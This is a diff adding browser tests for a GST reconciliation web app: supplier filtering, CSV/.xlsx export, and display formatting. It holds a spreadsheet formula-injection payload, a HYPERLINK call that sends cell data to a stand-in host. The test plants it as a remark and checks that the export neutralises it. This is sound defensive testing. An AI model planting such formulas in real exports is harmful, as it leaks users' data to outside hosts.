@@ -1,0 +1,474 @@
+// Browser tests of issue 14's "still CLI-only" and "polish" points on the Records and Reconcile
+// pages: the type-ahead supplier filter, the export of the grid's current view to CSV and .xlsx,
+// periods in words, reason codes in words. The real `gst-ims serve` (built binary, port 0, a temp
+// demo workspace) driven by playwright-core through the system's Chromium.
+import type { ChildProcess } from 'node:child_process';
+import { spawn } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join, resolve } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
+import type { BrowserContext, Page } from 'playwright-core';
+import { chromium } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { MATCH_REASON_CODES } from '../../packages/gst-ims/src/core/vocabulary/match-reasons.js';
+import { csvCell } from '../../packages/gst-ims/src/io/csv-cell.js';
+import type { RecordsPayload } from '../../packages/gst-ims/src/server/api-types.js';
+import { FLAG } from '../../packages/gst-ims/src/server/api-types.js';
+import {
+  neutraliseFormula,
+  plainRupees,
+  viewCsv,
+} from '../../packages/web/src/view-table.js';
+import { CHROMIUM_ARGS, findChromium } from '../../scripts/find-chromium.mjs';
+
+const REPO = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
+const BIN = join(REPO, 'packages/gst-ims/bin/gst-ims.js');
+const WEB_DIST = join(REPO, 'packages/web/dist/index.html');
+const SHOTS = join(REPO, 'test-output/screenshots');
+const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
+const FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"click")';
+
+const CHROMIUM = findChromium();
+const REQUIRED = process.env.GST_IMS_REQUIRE_BROWSER === '1';
+if (CHROMIUM === null) {
+  const line = '!'.repeat(78);
+  console.warn(
+    `\n${line}\n!! POLISH BROWSER TESTS ${REQUIRED ? 'FAIL' : 'SKIPPED'}: no Chromium found.\n` +
+      `!! Install it (Debian/Ubuntu: apt-get install chromium) or set GST_IMS_CHROMIUM=/path/to/chrome.\n${line}\n`,
+  );
+}
+
+describe("the web's CSV cells follow the engine's formula rule", () => {
+  const samples = [
+    '=1+2',
+    '+91 98',
+    '-12.50',
+    '@SUM(A1)',
+    '\tx',
+    '\rx',
+    '\uff1dcmd',
+    'plain',
+    'Shree Sai Traders',
+    'a=b',
+    '',
+    '12,34',
+    ' lead',
+    'say "hi"',
+  ];
+  it('neutralises exactly what io/csv-cell.ts neutralises, and quotes the same', () => {
+    for (const s of samples) {
+      const t = { columns: [{ header: 'h', kind: 'text' as const }], rows: [[s]] };
+      const line = viewCsv(t).replace(/^\ufeff/, '').split('\r\n')[1];
+      expect([s, line]).toEqual([s, csvCell(s)]);
+      expect(neutraliseFormula(s).startsWith("'")).toBe(csvCell(s).replace(/^"/, '').startsWith("'"));
+    }
+  });
+  it('writes amounts as plain rupees and dates as DD-MM-YYYY', () => {
+    expect([plainRupees(0), plainRupees(5), plainRupees(-123456), plainRupees(1234567890)]).toEqual(
+      ['0.00', '0.05', '-1234.56', '12345678.90'],
+    );
+    const csv = viewCsv({
+      columns: [
+        { header: 'Value ₹', kind: 'money' },
+        { header: 'Doc date', kind: 'date' },
+      ],
+      rows: [
+        [-1050, '2026-10-03'],
+        [null, null],
+      ],
+    });
+    expect(csv).toBe('\ufeffValue ₹,Doc date\r\n-10.50,03-10-2026\r\n,\r\n');
+  });
+});
+
+async function startServe(
+  cwd: string,
+  db: string,
+): Promise<{ child: ChildProcess; url: string; output: () => string }> {
+  const child = spawn(
+    process.execPath,
+    [BIN, '--db', db, '--user', 'asha', 'serve', '--port', '0', '--demo-if-empty'],
+    { cwd, env: { ...process.env, GST_IMS_DB: '' }, stdio: ['ignore', 'pipe', 'pipe'] },
+  );
+  let out = '';
+  child.stdout?.on('data', (d: Buffer) => (out += d.toString()));
+  child.stderr?.on('data', (d: Buffer) => (out += d.toString()));
+  const url = await new Promise<string>((ok, fail) => {
+    const timer = setTimeout(
+      () => fail(new Error(`gst-ims serve did not start in 60 s:\n${out}`)),
+      60_000,
+    );
+    const check = (): void => {
+      const m = /at (http:\/\/127\.0\.0\.1:\d+\/)/.exec(out);
+      if (m?.[1]) {
+        clearTimeout(timer);
+        ok(m[1]);
+      }
+    };
+    child.stdout?.on('data', check);
+    child.on('exit', (code) => fail(new Error(`gst-ims serve exited with ${code}:\n${out}`)));
+  });
+  return { child, url, output: () => out };
+}
+
+interface ApiRecord {
+  key: string;
+  section: string;
+  gstin: string;
+  name: string;
+  docNumber: string;
+  docDate: string;
+  returnPeriod: string | null;
+  value: number;
+  flags: number;
+  portalAction: string;
+}
+
+async function apiRecords(page: Page): Promise<ApiRecord[]> {
+  const p = await page.evaluate(
+    () => fetch('/api/records').then((r) => r.json()) as Promise<RecordsPayload>,
+  );
+  return p.rows.map((t) => ({
+    key: t[0],
+    section: t[1],
+    gstin: p.suppliers[t[2]]?.[0] ?? '',
+    name: p.suppliers[t[2]]?.[1] ?? '',
+    docNumber: t[3],
+    docDate: t[4],
+    returnPeriod: t[7],
+    value: t[9],
+    flags: t[19],
+    portalAction: t[15],
+  }));
+}
+
+async function waitForCounts(page: Page, text: string): Promise<void> {
+  await page.waitForFunction(
+    (t) => document.querySelector('[data-testid=grid-counts]')?.textContent?.includes(t) ?? false,
+    text,
+    { timeout: 20_000 },
+  );
+}
+
+const shownCount = async (page: Page): Promise<number> =>
+  Number(
+    /Showing ([\d,]+)/
+      .exec(await page.locator('[data-testid=grid-counts]').innerText())?.[1]
+      ?.replace(/,/g, ''),
+  );
+
+const rupees = (paise: number): string => (paise / 100).toFixed(2);
+const ddmmyyyy = (iso: string): string => iso.split('-').reverse().join('-');
+
+describe.skipIf(CHROMIUM === null && !REQUIRED)(
+  'Records and Reconcile polish in Chromium (gst-ims serve on a demo workspace)',
+  () => {
+    const dir = mkdtempSync(join(tmpdir(), 'gst-ims-e2e-polish-'));
+    let serve: Awaited<ReturnType<typeof startServe>>;
+    let browser: BrowserContext;
+    let page: Page;
+    let records: ApiRecord[] = [];
+    /** The supplier the filter tests pick: several records, a name with a word to type. */
+    let pick: { gstin: string; name: string; word: string; n: number };
+    let formulaKey = '';
+
+    beforeAll(async () => {
+      if (CHROMIUM === null)
+        throw new Error('GST_IMS_REQUIRE_BROWSER=1 but no Chromium was found: install chromium');
+      if (!existsSync(WEB_DIST))
+        throw new Error('the web app is not built: run npm run build first (npm test does)');
+      mkdirSync(SHOTS, { recursive: true });
+      serve = await startServe(dir, join(dir, 'ws.sqlite'));
+      browser = await chromium.launchPersistentContext(join(dir, 'profile'), {
+        executablePath: CHROMIUM,
+        headless: true,
+        args: CHROMIUM_ARGS,
+        viewport: { width: 1440, height: 900 },
+        acceptDownloads: true,
+        // Not en-IN: the app's formats must not come from the browser's locale.
+        locale: 'en-US',
+        timezoneId: 'Asia/Kolkata',
+      });
+      page = browser.pages()[0] ?? (await browser.newPage());
+      page.setDefaultTimeout(20_000);
+      await page.goto(serve.url);
+      records = await apiRecords(page);
+      const bySupplier = new Map<string, ApiRecord[]>();
+      for (const r of records) bySupplier.set(r.gstin, [...(bySupplier.get(r.gstin) ?? []), r]);
+      const candidates = [...bySupplier.values()]
+        .filter((rs) => rs.length >= 3 && /[A-Za-z]{4,}/.test(rs[0]!.name))
+        .map((rs) => {
+          const first = rs[0]!;
+          // The name's longest word: typed in lower case, it must still find the supplier.
+          const word = [...first.name.split(/\W+/)].sort((a, b) => b.length - a.length)[0]!;
+          return { gstin: first.gstin, name: first.name, word, n: rs.length };
+        });
+      expect(candidates.length).toBeGreaterThan(0);
+      pick = candidates[0]!;
+      // A remark someone typed that a spreadsheet would run: the export must not let it.
+      const target = bySupplier
+        .get(pick.gstin)!
+        .find(
+          (r) =>
+            r.section === 'b2b' &&
+            (r.flags & (FLAG.gone | FLAG.remarksBlocked)) === 0,
+        );
+      expect(target).toBeDefined();
+      formulaKey = target!.key;
+      const status = await page.evaluate(
+        async ([key, remark]) => {
+          const token =
+            document.querySelector('meta[name="gst-ims-token"]')?.getAttribute('content') ?? '';
+          const r = await fetch('/api/decide', {
+            method: 'POST',
+            headers: { 'content-type': 'application/json', 'x-gst-ims-token': token },
+            body: JSON.stringify({ keys: [key], verb: 'reject', remark }),
+          });
+          return `${r.status} ${await r.text()}`;
+        },
+        [formulaKey, FORMULA] as const,
+      );
+      expect(status).toMatch(/^200 /);
+    }, 120_000);
+
+    afterAll(async () => {
+      await browser?.close();
+      if (serve) {
+        const exited = new Promise<number | null>((ok) =>
+          serve.child.on('exit', (code) => ok(code)),
+        );
+        serve.child.kill('SIGTERM');
+        await exited;
+      }
+      rmSync(dir, { recursive: true, force: true });
+    });
+
+    it('finds a supplier by a word of its name or a part of its GSTIN, by keyboard', async () => {
+      await page.goto(`${serve.url}records`);
+      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
+      const box = page.getByRole('combobox', { name: /Supplier/ });
+      const suppliers = new Set(records.map((r) => r.gstin)).size;
+      await expect(box.getAttribute('placeholder')).resolves.toBe(
+        `All suppliers (${suppliers.toLocaleString('en-IN')})`,
+      );
+      await box.click();
+      await box.fill(pick.word.toLowerCase());
+      const options = page.locator('[data-testid=supplier-options] [role=option]');
+      await expect(box.getAttribute('aria-expanded')).resolves.toBe('true');
+      // Option 0 is "All suppliers"; every other one holds the word typed.
+      const texts = await options.allInnerTexts();
+      expect(texts[0]).toMatch(/^All suppliers/);
+      expect(texts.length).toBeGreaterThan(1);
+      for (const t of texts.slice(1)) expect(t.toUpperCase()).toContain(pick.word.toUpperCase());
+      expect(texts.some((t) => t.includes(pick.gstin))).toBe(true);
+      await page.screenshot({ path: join(SHOTS, 'polish-supplier-combobox.png') });
+
+      // A part of the GSTIN, then Enter: the first match is taken.
+      await box.fill(pick.gstin.slice(2, 12));
+      const first = await options.nth(1).innerText();
+      expect(first).toContain(pick.gstin);
+      await box.press('Enter');
+      await expect(box.getAttribute('aria-expanded')).resolves.toBe('false');
+      await expect(box.inputValue()).resolves.toBe(`${pick.name} · ${pick.gstin}`);
+      await waitForCounts(page, `Showing ${pick.n.toLocaleString('en-IN')} of 1,500 records`);
+      const gstins = await page
+        .locator('.ag-center-cols-container .ag-cell[col-id="supplierGstin"]')
+        .allInnerTexts();
+      expect(new Set(gstins)).toEqual(new Set([pick.gstin]));
+
+      // Esc closes the list and keeps the filter; the x button clears it.
+      await box.fill('zzzz-no-such-supplier');
+      await page.getByText('No supplier matches').waitFor();
+      await box.press('Escape');
+      await expect(box.inputValue()).resolves.toBe(`${pick.name} · ${pick.gstin}`);
+      expect(await shownCount(page)).toBe(pick.n);
+      await page.getByRole('button', { name: 'All suppliers' }).click();
+      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
+
+      // Arrow keys walk the list (round to "All suppliers" and back); Enter takes the active one.
+      await box.fill(pick.word);
+      await box.press('ArrowUp');
+      await expect(box.getAttribute('aria-activedescendant')).resolves.toBe(
+        await options.nth(0).getAttribute('id'),
+      );
+      await box.press('ArrowDown');
+      await expect(box.getAttribute('aria-activedescendant')).resolves.toBe(
+        await options.nth(1).getAttribute('id'),
+      );
+      const chosen = /(\w{15})\s*\(/.exec(await options.nth(1).innerText())?.[1];
+      expect(chosen).toBeDefined();
+      await box.press('Enter');
+      await expect(box.inputValue()).resolves.toContain(chosen!);
+    });
+
+    it('opens the Records page filtered to a supplier from ?supplier=', async () => {
+      await page.goto(`${serve.url}records?supplier=${pick.gstin}`);
+      await waitForCounts(page, `Showing ${pick.n.toLocaleString('en-IN')} of 1,500 records`);
+      await expect(page.locator('#supplier-filter').inputValue()).resolves.toContain(pick.gstin);
+    });
+
+    it('exports the view as shown (supplier filter and search applied) to CSV, formulas neutralised', async () => {
+      await page.goto(`${serve.url}records?supplier=${pick.gstin}`);
+      await waitForCounts(page, `Showing ${pick.n.toLocaleString('en-IN')} of 1,500 records`);
+      const [download] = await Promise.all([
+        page.waitForEvent('download'),
+        page.getByRole('button', { name: 'Export CSV' }).click(),
+      ]);
+      expect(download.suggestedFilename()).toMatch(/^records-\w{15}-\d{4}-\d{2}-\d{2}\.csv$/);
+      const text = readFileSync(await download.path(), 'utf8');
+      expect(text.startsWith('\ufeff')).toBe(true);
+      const table: string[][] = parse(text.slice(1));
+      const [header, ...rows] = table;
+      // The columns shown by default, in the grid's order (the pinned ones at the right end).
+      expect(header).toEqual([
+        'Section',
+        'Supplier GSTIN',
+        'Supplier',
+        'Doc no.',
+        'Doc date',
+        'Match',
+        'Value ₹',
+        'Taxable ₹',
+        'IGST ₹',
+        'CGST ₹',
+        'SGST ₹',
+        'Portal holds',
+        'Remark',
+        'Your decision',
+        'Status',
+      ]);
+      expect(rows.length).toBe(pick.n);
+      const col = (h: string): number => header!.indexOf(h);
+      expect(new Set(rows.map((r) => r[col('Supplier GSTIN')]))).toEqual(new Set([pick.gstin]));
+      const mine = records.filter((r) => r.gstin === pick.gstin);
+      expect(rows.map((r) => r[col('Value ₹')]).sort()).toEqual(
+        mine.map((r) => rupees(r.value)).sort(),
+      );
+      expect(rows.map((r) => r[col('Doc date')]).sort()).toEqual(
+        mine.map((r) => ddmmyyyy(r.docDate)).sort(),
+      );
+      const target = records.find((r) => r.key === formulaKey)!;
+      const row = rows.find((r) => r[col('Doc no.')] === target.docNumber);
+      expect(row?.[col('Remark')]).toBe(`'${FORMULA}`);
+
+      // A search narrows the export to what it shows.
+      await page.fill('#quick-search', target.docNumber);
+      await page.waitForFunction(
+        (n) => !document.querySelector('[data-testid=grid-counts]')?.textContent?.includes(`Showing ${n} `),
+        pick.n.toLocaleString('en-IN'),
+      );
+      const shown = await shownCount(page);
+      const [again] = await Promise.all([
+        page.waitForEvent('download'),
+        page.getByRole('button', { name: 'Export CSV' }).click(),
+      ]);
+      const narrowed: string[][] = parse(readFileSync(await again.path(), 'utf8').slice(1));
+      expect(narrowed.length - 1).toBe(shown);
+      expect(narrowed.slice(1).every((r) => r[col('Doc no.')]!.includes(target.docNumber))).toBe(
+        true,
+      );
+      await page
+        .locator('.toast')
+        .getByText(`Exported ${shown} record${shown === 1 ? '' : 's'} as shown to CSV.`)
+        .waitFor();
+    });
+
+    it('exports the view to .xlsx: amounts as numbers in #,##,##0.00, dates as dates', async () => {
+      await page.goto(`${serve.url}records?supplier=${pick.gstin}`);
+      await waitForCounts(page, `Showing ${pick.n.toLocaleString('en-IN')} of 1,500 records`);
+      const [download] = await Promise.all([
+        page.waitForEvent('download', { timeout: 60_000 }),
+        page.getByRole('button', { name: 'Export .xlsx' }).click(),
+      ]);
+      expect(download.suggestedFilename()).toMatch(/\.xlsx$/);
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.readFile(await download.path());
+      const ws = wb.getWorksheet('Records')!;
+      const header = (ws.getRow(1).values as unknown[]).slice(1) as string[];
+      const col = (h: string): number => header.indexOf(h) + 1;
+      expect(col('Value ₹')).toBeGreaterThan(0);
+      expect(ws.rowCount - 1).toBe(pick.n);
+      const values: number[] = [];
+      for (let i = 2; i <= ws.rowCount; i++) {
+        const row = ws.getRow(i);
+        expect(row.getCell(col('Supplier GSTIN')).value).toBe(pick.gstin);
+        const v = row.getCell(col('Value ₹'));
+        expect(typeof v.value).toBe('number');
+        expect(v.numFmt).toBe('#,##,##0.00');
+        values.push(v.value as number);
+        const d = row.getCell(col('Doc date'));
+        expect(d.value).toBeInstanceOf(Date);
+        expect(d.numFmt).toBe('dd-mm-yyyy');
+      }
+      const mine = records.filter((r) => r.gstin === pick.gstin);
+      expect(values.map((v) => v.toFixed(2)).sort()).toEqual(
+        mine.map((r) => rupees(r.value)).sort(),
+      );
+    });
+
+    it('shows return periods as "Oct 2026", not 102026', async () => {
+      await page.goto(`${serve.url}records`);
+      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
+      await page.getByRole('button', { name: /^Columns/ }).click();
+      await page.locator('.chooser label').filter({ hasText: 'Return period' }).locator('input').check();
+      await page.evaluate(() =>
+        (
+          window as unknown as { __gstImsGrid: { ensureColumnVisible(c: string): void } }
+        ).__gstImsGrid.ensureColumnVisible('returnPeriod'),
+      );
+      await page.locator('.ag-center-cols-container .ag-cell[col-id="returnPeriod"]').first().waitFor();
+      const cells = await page
+        .locator('.ag-center-cols-container .ag-cell[col-id="returnPeriod"]')
+        .allInnerTexts();
+      const periods = new Set(
+        records.map((r) => r.returnPeriod).filter((p): p is string => p !== null),
+      );
+      expect(periods.size).toBeGreaterThan(0);
+      const words = [...periods].map((p) => `${MONTHS[Number(p.slice(0, 2)) - 1]} ${p.slice(2)}`);
+      expect(cells.some((c) => c !== '')).toBe(true);
+      for (const c of cells) if (c !== '') expect(words).toContain(c);
+      await page.evaluate(() => localStorage.removeItem('gst-ims.records.columns.v1'));
+    });
+
+    it('shows match reasons in words, never as codes, on the Reconcile page and in the record panel', async () => {
+      // The codes that are no English word (dateDiff, numberExact, in2b ...): none may show.
+      const codes = MATCH_REASON_CODES.filter((c) => /[A-Z0-9]/.test(c));
+      const code = new RegExp(`\\b(${codes.join('|')})\\b`);
+      await page.goto(`${serve.url}reconcile`);
+      const tabs = page.locator('.reconcile .views');
+      await tabs.getByText(/^Mismatch \([\d,]+\)$/).waitFor({ timeout: 60_000 });
+      await tabs.getByText(/^Mismatch/).click();
+      await page.waitForFunction(() => {
+        const cells = [
+          ...document.querySelectorAll(
+            '.reconcile-grid .ag-center-cols-container .ag-cell[col-id="outcome"]',
+          ),
+        ];
+        return cells.length > 0 && cells.every((c) => c.textContent === 'Mismatch');
+      });
+      const reasons = await page
+        .locator('.reconcile-grid .ag-center-cols-container .ag-cell[col-id="reasons"]')
+        .allInnerTexts();
+      expect(reasons.length).toBeGreaterThan(0);
+      for (const r of reasons) {
+        expect(r.trim()).not.toBe('');
+        expect([r, code.test(r)]).toEqual([r, false]);
+      }
+
+      await page.goto(`${serve.url}records?view=all`);
+      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
+      await page.fill('#quick-search', 'mismatch');
+      await page.waitForFunction(
+        () => !document.querySelector('[data-testid=grid-counts]')?.textContent?.includes('Showing 1,500'),
+      );
+      await page.locator('.ag-center-cols-container .ag-cell[col-id="docNumber"]').first().click();
+      const panel = page.getByTestId('reconciliation');
+      await panel.locator('.reasons li').first().waitFor();
+      const items = await panel.locator('.reasons li').allInnerTexts();
+      for (const r of items) expect([r, code.test(r)]).toEqual([r, false]);
+    });
+  },
+);
